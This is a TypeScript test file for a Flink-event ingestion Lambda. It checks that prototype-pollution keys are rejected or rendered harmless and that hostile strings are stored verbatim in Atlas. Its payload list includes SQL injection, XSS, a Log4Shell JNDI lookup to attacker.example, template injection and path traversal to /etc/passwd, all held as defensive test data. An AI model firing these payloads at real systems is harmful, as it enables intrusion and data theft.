// Hostile input past the edge: prototype keys cannot pollute anything even where the edge is bypassed, and
// strings that are valid but hostile (SQL, markup, control characters, template injections) are data: they
// reach Atlas byte for byte, never interpreted.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { handler as flinkEvents } from '../../functions/flinkEvents.js';
import { ingestFlinkEvents, ingestOpenLineage } from '../../lib/ingest/index.js';
import { getRuntime } from '../../lib/runtime/index.js';
import { httpEvent, lambdaContext, parseResponse } from '../helpers/apiGateway.js';
import { JOB_ID, statusEvent, T0 } from '../helpers/events.js';
import { EVENT_TIME, runEvent } from '../helpers/openLineage.js';
import { useTestAtlas } from '../helpers/stack.js';
import { nativeCorpus } from './fuzzBodies.js';

const atlas = useTestAtlas();

const post = async (body: string) => parseResponse(await flinkEvents(httpEvent(body), lambdaContext));

const unpolluted = () => {
  for (const proto of [Object.prototype, Array.prototype, Function.prototype]) {
    expect(Object.getOwnPropertyNames(proto)).not.toContain('polluted');
  }
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
};

const POLLUTING_RESULT = `{
  "type": "job.result", "eventId": "6a7d1e2f-3b4c-4d5e-8f60-718293a4b5c6", "eventTime": "2026-11-25T10:02:44.900Z",
  "cluster": "flink-prod", "__proto__": {"polluted": "root"},
  "job": {"id": "${JOB_ID}", "name": "daily-revenue", "__proto__": {"polluted": "job"}, "constructor": {"prototype": {"polluted": "ctor"}}},
  "result": {"netRuntimeMs": 1, "accumulators": {"__proto__": {"polluted": "acc"}, "constructor": 2, "prototype": 3, "rows": 1}}
}`;

describe('Prototype keys', () => {
  it('are refused at the edge with 400 FORBIDDEN_KEY and the pointer of each', async () => {
    const { status, body } = await post(POLLUTING_RESULT);
    expect(status).toBe(400);
    expect(body.error).toBe('FORBIDDEN_KEY');
    expect(body.problems.map((p: { pointer: string }) => p.pointer)).toEqual([
      '/__proto__', '/job/__proto__', '/job/constructor', '/result/accumulators/__proto__', '/result/accumulators/constructor', '/result/accumulators/prototype',
    ]);
    expect(atlas.emulator.stats.writes).toBe(0);
    unpolluted();
  });

  it('pollute nothing even with the edge bypassed: JSON.parse makes own keys, zod drops __proto__, nothing merges with Object.assign', async () => {
    const deps = getRuntime().ingestDeps;
    const report = await ingestFlinkEvents(JSON.parse(POLLUTING_RESULT) as unknown, deps);
    expect(report.results[0]?.outcome).toBe('written');
    unpolluted();
    const run = atlas.emulator.entities().find((e) => e.typeName === 'flink_job_run');
    const stored = JSON.stringify(run?.attributes);
    expect(stored).not.toContain('polluted');
    expect(Object.getPrototypeOf(run?.attributes.accumulators ?? {})).toBe(Object.prototype);

    const ol = JSON.parse(JSON.stringify(runEvent({ eventType: 'START', eventTime: EVENT_TIME })).replace('"run":{', '"run":{"__proto__":{"polluted":"ol"},"facets_":{"constructor":{"prototype":{"polluted":"ol2"}}},')) as unknown;
    await ingestOpenLineage(ol, deps);
    unpolluted();
  });

  it('pollute nothing in any object of any published example (property, edge bypassed)', async () => {
    const examples = nativeCorpus();
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...examples),
        fc.nat(),
        fc.constantFrom('__proto__', 'constructor', 'prototype'),
        fc.constantFrom('{"polluted":1}', '{"prototype":{"polluted":1}}', '{"__proto__":{"polluted":1}}'),
        async (example, at, key, value) => {
          const objects: Record<string, unknown>[] = [];
          const walk = (v: unknown): void => {
            if (Array.isArray(v)) v.forEach(walk);
            else if (typeof v === 'object' && v !== null) {
              objects.push(v as Record<string, unknown>);
              Object.values(v).forEach(walk);
            }
          };
          const event = JSON.parse(JSON.stringify(example)) as unknown;
          walk(event);
          const target = objects[at % objects.length] as Record<string, unknown>;
          target.__fuzz__ = 0;
          const text = JSON.stringify(event).replace('"__fuzz__":0', `${JSON.stringify(key)}:${value}`);
          await ingestFlinkEvents(JSON.parse(text) as unknown, getRuntime().ingestDeps);
          unpolluted();
        },
      ),
      { numRuns: 100 },
    );
    expect(atlas.emulator.entities().some((e) => JSON.stringify(e).includes('polluted'))).toBe(false);
  });
});

const HOSTILE_NAMES = [
  "orders'; DROP TABLE flink_job; --",
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}} #{7*7} %{7*7}',
  'line1\nline2\r\n\ttabbed',
  'nul\u0000byte and bell\u0007 and esc\u001b[31mred\u001b[0m',
  'rtl \u202egnp.exe and zero\u200bwidth',
  'back\\slash "quoted" /slashed/ @at',
  '../../etc/passwd',
  'emoji 🦩 and 𝄞 and ü',
  '%00%0a%27',
  ' leading and trailing spaces ',
];

describe('Hostile but valid strings', () => {
  it('are stored verbatim: job names, error messages and stack traces reach Atlas byte for byte', async () => {
    const events = HOSTILE_NAMES.map((name, i) =>
      statusEvent('FAILED', T0 + i, { job: { name, id: `${String(i).padStart(2, '0')}${JOB_ID.slice(2)}` }, error: { message: name, stackTrace: `at ${name}` } }));
    const { status } = await post(JSON.stringify(events));
    expect(status).toBe(200);
    const stored = atlas.emulator.entities();
    for (const name of HOSTILE_NAMES) {
      const job = stored.find((e) => e.typeName === 'flink_job' && e.attributes.name === name);
      expect(job, name).toBeDefined();
      expect(Buffer.from(String(job?.attributes.name), 'utf8').equals(Buffer.from(name, 'utf8'))).toBe(true);
      expect(job?.attributes.qualifiedName).toBe(`flink-prod/${name}@primary`);
      const run = stored.find((e) => e.typeName === 'flink_job_run' && e.attributes.errorMessage === name);
      expect(run?.attributes.errorStackTrace).toBe(`at ${name}`);
    }
  });

  it('any job name the contract allows comes back from Atlas exactly as sent (property)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', minLength: 1, maxLength: 300 }), async (name) => {
        atlas.emulator.resetEntities();
        const { status } = await post(JSON.stringify(statusEvent('RUNNING', T0, { job: { name } })));
        expect(status).toBe(200);
        const job = atlas.emulator.entities().find((e) => e.typeName === 'flink_job');
        expect(Buffer.from(String(job?.attributes.name), 'utf8').equals(Buffer.from(name, 'utf8'))).toBe(true);
      }),
      { numRuns: 60 },
    );
  });
});
